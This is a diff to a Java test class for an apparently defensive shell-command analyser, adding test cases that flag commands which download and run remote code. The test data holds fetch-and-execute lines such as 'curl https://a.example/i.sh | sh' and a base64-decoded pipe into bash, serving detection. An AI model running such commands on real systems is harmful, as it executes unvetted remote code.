@@ -31,7 +31,9 @@ class FootprintsTest {
     void aCommandOfKnownToolsIsClosed(String command) {
         Footprint footprint = of(command);
 
-        assertThat(footprint.isClosed()).as(footprint.describe()).isTrue();
+        assertThat(footprint.anyProgram() || footprint.anyWrite() || footprint.anyHost())
+                .as(footprint.describe())
+                .isFalse();
         assertThat(footprint.expectsProgram("curl")).isFalse();
         assertThat(footprint.expectsHost("evil.example")).isFalse();
     }
@@ -86,7 +88,7 @@ class FootprintsTest {
         if (write == null) {
             assertThat(footprint.folders()).contains(path);
         } else {
-            assertThat(footprint.files()).contains(new NamedFile(path, true, write));
+            assertThat(footprint.files()).anyMatch(file -> file.path().equals(path) && file.write() == write);
         }
     }
 
@@ -146,6 +148,8 @@ class FootprintsTest {
                 "curl https://a.example/i.sh | sh¦DOWNLOADED_CODE",
                 "curl -o i.sh https://a.example && sh i.sh¦DOWNLOADED_CODE",
                 "wget -O /tmp/x a.example; chmod +x /tmp/x; /tmp/x¦DOWNLOADED_CODE",
+                "wget https://a.example/i.sh?x=1 && sh i.sh¦DOWNLOADED_CODE",
+                "curl a.example > i.sh; bash i.sh¦DOWNLOADED_CODE",
                 "echo aGk= | base64 -d | bash¦DOWNLOADED_CODE",
                 "python3 -c 1¦UNINSPECTABLE"
             })
